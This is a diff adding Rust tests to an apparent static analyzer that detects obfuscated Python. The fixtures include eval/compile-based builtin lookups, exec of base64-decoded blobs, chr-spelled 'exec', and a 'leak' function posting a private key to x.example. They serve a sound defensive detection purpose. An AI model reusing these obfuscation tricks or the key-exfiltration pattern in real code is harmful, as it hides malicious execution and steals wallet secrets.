@@ -187,3 +187,71 @@ fn obfuscated_builtin_spelling_folds() {
     );
     assert_eq!(call(&a, "os.system").args[0].text.as_deref(), Some("id"));
 }
+
+#[test]
+fn eval_of_constant_text_yields_the_named_object() {
+    // BlankOBF-style lookups: every builtin fetched through `eval` of
+    // escaped text, modules through `eval(compile("__import__(...)"))`.
+    let a = model(
+        "_e = eval('\\x65\\x76\\x61\\x6c')\n_c = _e('compile')\n\
+         _b, _x = _e(_c(\"__import__('base64')\", '', 'eval')), _e(_c('exec', '', 'eval'))\n\
+         _x(_b.b64decode(blob))\n",
+        FileRole::Module,
+    );
+    let exec = call(&a, "builtins.exec");
+    assert!(exec.args[0].has(taint::DECODED), "{exec:?}");
+    call(&a, "base64.b64decode");
+}
+
+#[test]
+fn comprehensions_over_constants_fold() {
+    let a = model(
+        "f = eval(''.join(chr(i) for i in [101, 120, 101, 99]))\nf(payload)\n\
+         g = [c.upper() for c in 'os']\n",
+        FileRole::Module,
+    );
+    call(&a, "builtins.exec");
+    assert!(a.strings.iter().any(|s| &*s.value == "exec"));
+    // Each repetition does not add its own facts.
+    let chr = a
+        .calls
+        .iter()
+        .filter(|c| &*c.name == "builtins.chr")
+        .count();
+    assert_eq!(chr, 1);
+}
+
+#[test]
+fn names_bound_by_executed_payloads_are_visible_after_them() {
+    let a = model(
+        "exec(\"setattr(__builtins__, '_____', exec)\")\nexec('import subprocess as sp')\n\
+         _____(code)\nsp.Popen(['id'])\n",
+        FileRole::Module,
+    );
+    call(&a, "subprocess.Popen");
+    assert!(
+        a.calls
+            .iter()
+            .filter(|c| &*c.name == "builtins.exec")
+            .any(|c| c.via.is_none() && c.args[0].text.is_none()),
+        "the aliased exec of a variable is a call of builtins.exec"
+    );
+}
+
+#[test]
+fn wallet_keys_are_secret_but_their_signatures_are_not() {
+    let a = model(
+        "import hmac, requests\n\
+         def leak(private_key):\n    requests.post('https://x.example', json={'k': private_key})\n\
+         def sign(msg, private_key):\n    return hmac.new(private_key, msg, 'sha256').hexdigest()\n\
+         def send(url, tx, private_key):\n    requests.post(url, json={'sig': sign(tx, private_key)})\n",
+        FileRole::Module,
+    );
+    let posts: Vec<&Call> = a
+        .calls
+        .iter()
+        .filter(|c| &*c.name == "requests.post")
+        .collect();
+    assert!(posts[0].all_args().any(|v| v.has(taint::SECRET)));
+    assert!(!posts[1].all_args().any(|v| v.has(taint::SECRET)));
+}
